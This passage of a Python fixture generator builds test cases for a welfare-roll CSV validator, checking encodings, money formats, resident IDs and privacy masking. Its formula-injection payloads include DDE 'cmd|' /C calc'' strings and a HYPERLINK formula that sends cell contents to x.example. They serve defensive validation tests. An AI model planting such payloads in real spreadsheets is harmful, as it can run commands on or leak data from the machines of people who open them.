        "--input-encoding utf-8: H2 is a BAD_ROW, the rest is read.",
        hh=hh_text(with_field(HH, 1, 5, "刘\udcff淑芬")).encode("utf-8", "surrogateescape"),
        args="--input-encoding utf-8",
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("bom-then-gbk", "A UTF-8 BOM followed by GBK bytes: the BOM means UTF-8, in which every row's\n"
        "Chinese text is invalid: four BAD_ROWs, every household and member rejected.",
        hh=b"\xef\xbb\xbf" + hh_text().encode("gbk"),
        codes={"BAD_ROW": 4}, h=(4, 0, 0, 0, 4), m=(7, 0, 0, 7))


def gb18030_garbled_outcome(text_rows):
    """The rows of a UTF-8 file that auto-detection reads as GB18030 (one byte FF makes the file
    not UTF-8): a row whose bytes are all valid GB18030 is read (its Chinese garbled into other
    characters, still text); a row with an invalid sequence is a BAD_ROW. Python's codec decides."""
    bad = []
    for i, r in enumerate(text_rows):
        try:
            line = ",".join(r).encode("utf-8", "surrogateescape")
            line.decode("gb18030")
        except UnicodeDecodeError:
            bad.append(i)
    return bad


garbled = with_field(HH, 1, 5, "刘\udcff淑芬")
bad_rows = gb18030_garbled_outcome(garbled)
# With these names every row holds an invalid GB18030 sequence somewhere (an odd number of
# UTF-8 bytes before a comma), so all four rows are BAD_ROWs: the roll is refused row by row,
# not silently paid with garbled names. The count is checked here, when the fixture is written.
assert bad_rows == [0, 1, 2, 3], bad_rows
fixture("bytes-invalid-utf8-auto", "A UTF-8 households.csv with Chinese text and one byte FF (in H2): auto\n"
        "takes UTF-8 only when the whole file is valid, so the file is read as GB18030. Python's\n"
        "gb18030 codec finds an invalid sequence in each of the four rows (3-byte UTF-8 characters\n"
        "leave an odd byte before a comma): four BAD_ROWs.",
        hh=hh_text(garbled).encode("utf-8", "surrogateescape"),
        codes={"BAD_ROW": 4}, h=(4, 0, 0, 0, 4), m=(7, 0, 0, 7))

# ------------------------------------------------------------------------------------------
# Amounts (inputs.md money: 1-9 digits, optionally '.' and 1-2 digits; no sign, separator or
# currency sign)

for name, value, why in [
    ("amount-thousands-separator", '"1,234.50"', "a thousands separator (quoted, so one field)"),
    ("amount-yuan-sign", "¥100", "a currency sign"),
    ("amount-fullwidth-digits", "３００．００", "full-width digits and point"),
    ("amount-exponent", "1e3", "an exponent"),
    ("amount-three-decimals", "12.345", "three decimals"),
    ("amount-negative", "-100.00", "a sign"),
    ("amount-ten-digits", "1234567890", "ten digits before the point"),
    ("amount-trailing-point", "100.", "a point with no decimals"),
]:
    fixture(name, f"H2's monthly_income {value}: {why}: BAD_VALUE; H2 rejected.",
            hh=u8(hh_text(with_field(HH, 1, 8, value))),
            codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M,
            exc=[("BAD_VALUE", "households.csv", 3, "monthly_income")])
fixture("amount-thousands-unquoted", "H2's monthly_income 1,234.50 unquoted: ten fields: BAD_ROW.",
        hh=u8(hh_text(with_field(HH, 1, 8, "1,234.50"))),
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("amount-valid-forms", "Incomes 007, 12.5 and ' 0.50<TAB>' (trimmed): all valid money, the same roll.",
        hh=u8(hh_text(with_field(with_field(with_field(HH, 0, 8, "007"), 1, 8, "12.5"), 2, 8, " 0.50\t"))),
        codes={}, h=BASE_H, m=BASE_M)
RIGID = HH_HEADER + ["rigid_expense"]
fixture("amount-rigid-expense", "An optional money column (rigid_expense) holding 1e3 on H2: BAD_VALUE.",
        hh=u8(rows_text(RIGID, [r + (["1e3"] if r[0] == "H2" else [""]) for r in HH])),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 3, "rigid_expense")])
fixture("amount-cases", "cases.csv: C1 valid (500.00, paid), C2 amount 0 (money above zero required),\n"
        "C3 amount -5 and C4 amount '1,000.00': BAD_VALUE, rejected. Cases never change a\n"
        "household's outcome.",
        cases=u8(rows_text(CASE_HEADER, [
            ["C1", RUN_MONTH, E1, "陈一", "", "东站街道", "东站社区", "urban", "2", "6222000000000011", "医疗", "500.00", "district"],
            ["C2", RUN_MONTH, E2, "陈二", "", "东站街道", "东站社区", "urban", "2", "6222000000000022", "医疗", "0", "district"],
            ["C3", RUN_MONTH, E3, "陈三", "", "东站街道", "东站社区", "urban", "2", "6222000000000033", "医疗", "-5", "district"],
            ["C4", RUN_MONTH, E3, "陈三", "", "东站街道", "东站社区", "urban", "2", "6222000000000033", "医疗", '"1,000.00"', "district"],
        ])),
        codes={"BAD_VALUE": 3}, h=BASE_H, m=BASE_M, c=(4, 1, 0, 3, 0),
        exc=[("BAD_VALUE", "cases.csv", 3, "amount"), ("BAD_VALUE", "cases.csv", 5, "amount")])

# ------------------------------------------------------------------------------------------
# Resident IDs (inputs.md: 17 digits and a check character, MOD 11-2, a real birth date not
# after the run month). Every single-digit substitution and adjacent swap of a valid ID is
# generated at test time by catalogue.sh.

for name, value, why in [
    ("id-15-digits", B[:6] + B[8:17], "a 15-digit ID (the pre-1999 form)"),
    ("id-excel-exponent", "1.10105E+17", "an ID that Excel turned into a number"),
    ("id-inner-spaces", f"{B[:6]} {B[6:14]} {B[14:]}", "an ID with spaces inside"),
    ("id-impossible-date", make_id("220105", "19990230", 12), "an ID whose birth date is 30 February"),
    ("id-future-birth", make_id("220105", "20201001", 12), "an ID born in October 2020, after the run month"),
]:
    fixture(name, f"H2's head_id is {why}: BAD_VALUE; H2 rejected.",
            hh=u8(hh_text(with_field(HH, 1, 6, value))),
            codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M,
            exc=[("BAD_VALUE", "households.csv", 3, "head_id")])
born_late = make_id("220105", "20201001", 21)
born_in_month = make_id("220105", "20200930", 21)
fixture("id-birth-month-edge", "Two new members: H2's born 2020-10-01 (after the run month: BAD_VALUE,\n"
        "H2 held), H3's born 2020-09-30 (the run month itself is allowed: counted).",
        mem=u8(mem_text(MEM[:4] + [["H2", born_late, "刘小", "child", "y"]] + MEM[4:6]
                        + [["H3", born_in_month, "张小", "child", "y"]] + MEM[6:])),
        codes={"BAD_VALUE": 1, "MEMBER_REJECTED": 1}, h=(4, 2, 1, 1, 0), m=(9, 7, 1, 1),
        exc=[("BAD_VALUE", "members.csv", 6, "person_id")])
x_id = next(make_id("220105", "19750505", s) for s in range(1000) if make_id("220105", "19750505", s)[-1] == "X")
fixture("id-lowercase-x", "H2's head has an ID ending in X, written with a lower-case x in\n"
        "households.csv and an upper-case X in members.csv: valid, the same roll.",
        hh=u8(hh_text(with_field(HH, 1, 6, x_id[:17] + "x"))),
        mem=u8(mem_text(with_field(MEM, 2, 1, x_id))), codes={}, h=BASE_H, m=BASE_M)

# ------------------------------------------------------------------------------------------
# Formula-like text (inputs.md text: does not begin with = + - @). Also the payloads for the
# privacy test: none may reach a cell of any output unescaped.

PAYLOADS = ['"=HYPERLINK(""http://x.example/?q=""&A1,""点击"")"', "+1+2", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]
formula_rows = []
n = 0
for col in (0, 1, 2, 5):  # household_id (its own type), street, community, head_name
    for p in PAYLOADS:
        n += 1
        r = [f"F{n:02d}", "东站街道", "东站社区", "urban", "marginal", "王五",
             make_id("220105", "19600101", n), "", "5000.00", ""]
        r[col] = p
        formula_rows.append(r)
for p in PAYLOADS:  # institution (text, checked whenever given)
    n += 1
    formula_rows.append([f"F{n:02d}", "东站街道", "东站社区", "urban", "marginal", "王五",
                         make_id("220105", "19600101", n), "", "5000.00", p])
fixture("formula-households", "A formula-like value (= + - @) at the start of each text column of\n"
        "households.csv (street, community, head_name, institution) and of household_id: 20 rows,\n"
        "each one BAD_VALUE, all rejected.",
        hh=u8(rows_text(HH_HEADER + ["institution"], formula_rows)), mem=u8(mem_text([])),
        codes={"BAD_VALUE": 20}, h=(20, 0, 0, 0, 20), m=(0, 0, 0, 0),
        exc=[("BAD_VALUE", "households.csv", 2, "household_id"), ("BAD_VALUE", "households.csv", 6, "street"),
             ("BAD_VALUE", "households.csv", 21, "institution")])
fm = [MEM[0]]
for i, p in enumerate(PAYLOADS):
    fm.append(["H1", make_id("220105", "19900101", 100 + i), p, "child", "y"])
for i, p in enumerate(["=H1", "+H1", "-H1", "@H1"]):
    fm.append([p, make_id("220105", "19900101", 200 + i), "某人", "child", "y"])
fixture("formula-members", "members.csv: H1's head, four members of H1 whose name is formula-like\n"
        "(BAD_VALUE: H1 held, MEMBER_REJECTED once), and four rows whose household_id (text in\n"
        "members.csv) is formula-like: BAD_VALUE, and they name a household on no row:\n"
        "UNKNOWN_HOUSEHOLD (README: a rejected member naming an unknown household gets both).",
        hh=u8(hh_text(HH[:1])), mem=u8(mem_text(fm)),
        codes={"BAD_VALUE": 8, "MEMBER_REJECTED": 1, "UNKNOWN_HOUSEHOLD": 4}, h=(1, 0, 1, 0, 0),
        m=(9, 1, 0, 8), exc=[("BAD_VALUE", "members.csv", 3, "name"), ("BAD_VALUE", "members.csv", 7, "household_id")])
fc = []
k = 0
for col in (0, 3, 4, 5, 6, 10):  # case_id, name, household_id, street, community, reason
    for p in PAYLOADS:
        k += 1
        r = [f"C{k:02d}", RUN_MONTH, make_id("220105", "19700101", k), "陈某", "", "东站街道", "东站社区",
             "urban", "2", "6222000000000099", "医疗", "500.00", "district"]
        r[col] = p
        fc.append(r)
fixture("formula-cases", "cases.csv: a formula-like value at the start of each text column (case_id,\n"
        "name, household_id, street, community, reason): 24 rows, each one BAD_VALUE, rejected.\n"
        "The four whose household_id is formula-like name a household on no row:\n"
        "UNKNOWN_HOUSEHOLD as well (inputs.md: a case naming a household_id on no row is\n"
        "rejected with UNKNOWN_HOUSEHOLD; as for members, a row already rejected gets it too).",
        cases=u8(rows_text(CASE_HEADER, fc)),
        codes={"BAD_VALUE": 24, "UNKNOWN_HOUSEHOLD": 4}, h=BASE_H, m=BASE_M, c=(24, 0, 0, 24, 0),
        exc=[("BAD_VALUE", "cases.csv", 2, "case_id"), ("BAD_VALUE", "cases.csv", 25, "reason")])
fixture("formula-leading-space", "H2's head_name is '  =1+1': trimmed first, then formula-like: BAD_VALUE.",
        hh=u8(hh_text(with_field(HH, 1, 5, "  =1+1"))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_VALUE", "households.csv", 3, "head_name")])

# ------------------------------------------------------------------------------------------
# Other values and cross-row checks

fixture("text-tab-inside", "A TAB inside H2's head_name (刘<TAB>淑芬; only the ends are trimmed): a\n"
        "control character: BAD_VALUE.",
        hh=u8(hh_text(with_field(HH, 1, 5, "刘\t淑芬"))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_VALUE", "households.csv", 3, "head_name")])
fixture("text-c1-control", "U+0085 (a C1 control character) inside H2's street: BAD_VALUE.",
        hh=u8(hh_text(with_field(HH, 1, 1, "远达\u0085街道"))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_VALUE", "households.csv", 3, "street")])
fixture("text-length", "H2's community is 201 characters (BAD_VALUE); H3's is exactly 200 (valid).",
        hh=u8(hh_text(with_field(with_field(HH, 1, 2, "社" * 201), 2, 2, "区" * 200))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_VALUE", "households.csv", 3, "community")])
fixture("enum-wrong-case", "H2's area is 'Urban' (enumerations are case-sensitive): BAD_VALUE.",
        hh=u8(hh_text(with_field(HH, 1, 3, "Urban"))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_VALUE", "households.csv", 3, "area")])
fixture("household-id-bad", "H2's household_id is 'H 2' (a space is not allowed): BAD_VALUE; the row\n"
        "belongs to 'H 2', so H2's members are UNKNOWN_HOUSEHOLD.",
        hh=u8(hh_text(with_field(HH, 1, 0, "H 2"))),
        codes={"BAD_VALUE": 1, "UNKNOWN_HOUSEHOLD": 2}, h=H2_REJ_H, m=H2_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 3, "household_id")])
fixture("account-bad", "H2's bank_account '6216 7945 2460 7325' (spaces): BAD_VALUE.",
        hh=u8(hh_text(with_field(HH, 1, 7, "6216 7945 2460 7325"))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_VALUE", "households.csv", 3, "bank_account")])
fixture("flag-bad", "The covered flag of H1's spouse is 'yes': BAD_VALUE; H1 held.",
        mem=u8(mem_text(with_field(MEM, 1, 4, "yes"))),
        codes={"BAD_VALUE": 1, "MEMBER_REJECTED": 1}, h=H1_HELD_H, m=H1_HELD_M,
        exc=[("BAD_VALUE", "members.csv", 3, "covered")])
fixture("date-bad", "The deceased_on of H1's spouse is 2020-02-30: BAD_VALUE; H1 held.",
        mem=u8(rows_text(MEM_HEADER + ["deceased_on"], [r + (["2020-02-30"] if i == 1 else [""]) for i, r in enumerate(MEM)])),
        codes={"BAD_VALUE": 1, "MEMBER_REJECTED": 1}, h=H1_HELD_H, m=H1_HELD_M,
        exc=[("BAD_VALUE", "members.csv", 3, "deceased_on")])
fixture("duplicate-household", "H2's row appears twice (lines 3 and 6): both rows rejected\n"
        "(DUPLICATE_HOUSEHOLD, one per row), and H2's members with them.",
        hh=u8(hh_text(HH + [HH[1]])), codes={"DUPLICATE_HOUSEHOLD": 2}, h=(5, 2, 0, 1, 2), m=H2_REJ_M,
        exc=[("DUPLICATE_HOUSEHOLD", "households.csv", 3), ("DUPLICATE_HOUSEHOLD", "households.csv", 6)])
fixture("unknown-household", "A member names H9, on no row of households.csv: UNKNOWN_HOUSEHOLD.",
        mem=u8(mem_text(MEM + [["H9", make_id("220105", "19910101", 9), "路人", "head", "y"]])),
        codes={"UNKNOWN_HOUSEHOLD": 1}, h=BASE_H, m=(8, 6, 1, 1), exc=[("UNKNOWN_HOUSEHOLD", "members.csv", 9)])
fixture("duplicate-person", "H2's child is listed in H3 too: both households held (DUPLICATE_PERSON,\n"
        "one per household); every covered row of a held household counts.",
        mem=u8(mem_text(MEM[:6] + [["H3", B2, "刘洋", "child", "y"]] + MEM[6:])),
        codes={"DUPLICATE_PERSON": 2}, h=(4, 1, 2, 1, 0), m=(8, 7, 1, 0))

# ------------------------------------------------------------------------------------------
# Privacy and spreadsheets (outputs.md: reports mask IDs and accounts; text cells beginning with
# = + - @ TAB or CR get a leading '). tests/scripts/privacy.sh scans this fixture's outputs too.

PHONE_ACCOUNT = "13812345678"  # an 11-digit account that looks like a mobile number
PRIV_HEADER = HH_HEADER + ["payee", "institution"]
P = {k: make_id("220105", "19700101", 500 + i) for i, k in enumerate(
    ["P1", "P2", "P3", "P4", "P5", "P6", "P7", "P8", "P9", "P10", "P11", "P11c", "P7m", "X1", "C1", "C2", "C3", "C4"])}


def priv(hid, **kw):
    r = {"household_id": hid, "street": "东站街道", "community": "东站社区", "area": "urban",
         "program": "dibao", "head_name": "王五", "head_id": P[hid], "bank_account": "62220000" + hid[1:].zfill(8),
         "monthly_income": "100.00", "payee": "", "institution": ""}
    r.update(kw)
    return [r[c] for c in PRIV_HEADER]


priv_hh = [
    priv("P1", bank_account=PHONE_ACCOUNT),
    priv("P2", bank_account=PHONE_ACCOUNT),
    priv("P3", street='"=HYPERLINK(""http://x.example/"",""点击"")"'),
    priv("P4", community="+8613812345678"),
    priv("P5", head_name="-王五"),
    priv("P6", payee="institution", institution="@福利院"),
    priv("P7", head_id=P["P7"][:17] + ("0" if P["P7"][17] != "0" else "1")),
    priv("P8", bank_account="6230-5988-6798-4974"),
    priv("P9", head_name="=王" + A),
    priv("P10", street="街道" + A2),
    priv("P11"),
]
priv_mem = [["P1", P["P1"], "王五", "head", "y"], ["P2", P["P2"], "王五", "head", "y"],
            ["P10", P["P10"], "王五", "head", "y"], ["P11", P["P11"], "王五", "head", "y"],
            ["P11", P["P11c"], "@SUM(1)", "child", "y"], ["P7", P["P7m"], "王五", "head", "y"],
            ["=P1", P["X1"], "王五", "child", "y"]]
priv_cases = [
    ["C1", RUN_MONTH, P["C1"], "陈一", "P1", "东站街道", "东站社区", "urban", "2", PHONE_ACCOUNT, "医疗", "500.00", "district"],
    ["C2", RUN_MONTH, P["C2"], "陈二", "", "东站街道", "东站社区", "urban", "2", "6222000000000022", "=1+1", "500.00", "district"],
    ["C3", RUN_MONTH, P["C3"], "-x", "", "东站街道", "东站社区", "urban", "2", "6222000000000033", "医疗", "500.00", "district"],
    ["C4", RUN_MONTH, P["C4"], "陈四", "@P1", "东站街道", "东站社区", "urban", "2", "6222000000000044", "医疗", "500.00", "district"],
]
fixture("privacy-payloads", "Payloads for the privacy test: P1 and P2 share an account that looks like a\n"
        "phone number (SHARED_ACCOUNT, review, both paid); formula-like text in street (P3),\n"
        "community (P4), head_name (P5), institution (P6); a head_id with a wrong check character\n"
        "(P7); an account with dashes (P8); a formula-like head_name holding a full ID (P9): seven\n"
        "BAD_VALUEs, rejected. P10 is paid, its street holding a full ID. P11 is held: a member\n"
        "named @SUM(1) (BAD_VALUE, MEMBER_REJECTED). A member of '=P1' (BAD_VALUE and\n"
        "UNKNOWN_HOUSEHOLD). Cases: C1 paid to the phone-like account; C2 (reason =1+1), C3 (name\n"
        "-x), C4 (household_id @P1, also UNKNOWN_HOUSEHOLD) rejected.",
        hh=u8(rows_text(PRIV_HEADER, priv_hh)), mem=u8(mem_text(priv_mem)),
        cases=u8(rows_text(CASE_HEADER, priv_cases)),
        codes={"BAD_VALUE": 12, "UNKNOWN_HOUSEHOLD": 2, "MEMBER_REJECTED": 1, "SHARED_ACCOUNT": 2},
        h=(11, 3, 1, 0, 7), m=(7, 4, 0, 3), c=(4, 1, 0, 3, 0))
fixture("mask-non-ascii-id", "The person_id of H1's spouse is 一二三四五六七八 (not an ID: BAD_VALUE, H1 held).\n"
        "exceptions.csv masks every value of an ID column (6 + 4 characters kept): it must stay\n"
        "UTF-8 (outputs.md), so the mask may not cut a character in two.",
        mem=u8(mem_text(with_field(MEM, 1, 1, "一二三四五六七八"))),
        codes={"BAD_VALUE": 1, "MEMBER_REJECTED": 1}, h=H1_HELD_H, m=H1_HELD_M,
        exc=[("BAD_VALUE", "members.csv", 3, "person_id")])
fixture("mask-non-ascii-id-gb18030", "As mask-non-ascii-id, written with --output-encoding gb18030: every\n"
        "output must be written (exit 0), not refused for a cut character.",
        mem=u8(mem_text(with_field(MEM, 1, 1, "一二三四五六七八"))), args="--output-encoding gb18030",
        codes={"BAD_VALUE": 1, "MEMBER_REJECTED": 1}, h=H1_HELD_H, m=H1_HELD_M)

# ------------------------------------------------------------------------------------------


def main(out):
    if os.path.isdir(out):
        for name in os.listdir(out):
            p = os.path.join(out, name)
            if os.path.isdir(p) and os.path.exists(os.path.join(p, "expect.txt")):
                shutil.rmtree(p)
    os.makedirs(out, exist_ok=True)
    names = set()
    for name, files, expect in FIXTURES:
        assert name not in names, name
        names.add(name)
        d = os.path.join(out, name)
        os.makedirs(d)
        for fname, data in files.items():
            with open(os.path.join(d, fname), "wb") as f:
                f.write(data)
        with open(os.path.join(d, "expect.txt"), "w", encoding="utf-8") as f:
            f.write(expect)
    print(f"{len(FIXTURES)} fixtures written to {out}")


if __name__ == "__main__":
    here = os.path.dirname(os.path.abspath(__file__))
    main(sys.argv[1] if len(sys.argv) > 1 else os.path.join(here, "..", "catalogue"))
